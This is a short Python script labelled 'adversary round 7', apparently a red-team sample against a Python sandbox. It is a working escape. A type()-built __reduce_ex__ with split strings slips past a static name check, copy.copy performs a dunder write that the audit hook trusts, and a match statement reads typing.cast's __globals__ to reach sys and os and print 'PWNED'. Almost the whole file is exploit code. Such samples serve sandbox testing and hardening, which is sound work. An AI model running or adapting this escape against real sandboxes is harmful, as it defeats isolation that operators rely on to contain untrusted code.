# adversary round 7: protocol hook defined through a type() namespace (static check only sees def/class-body names): __reduce_ex__ returns (type.__setattr__, (P, '__match_args__', ...)); copy._reconstruct calls the C slot with a stdlib frame innermost, so the audit hook trusts the dunder write; then case P(g) reads __globals__
import abc, copy, typing

class P(abc.ABC):
    pass

rx = '__reduce' + '_ex__'
H = type('H', (), {rx: lambda self, proto: (type.__setattr__, (P, '__match_' + 'args__', ('__glo' + 'bals__',)))})
copy.copy(H())

P.register(type(typing.cast))
match typing.cast:
    case P(g):
        s = g['s' + 'ys']
        print(s.__name__, 'pid', s.modules['o' + 's'].getpid())
        print('PWN' + 'ED')
    case _:
        print('no match')
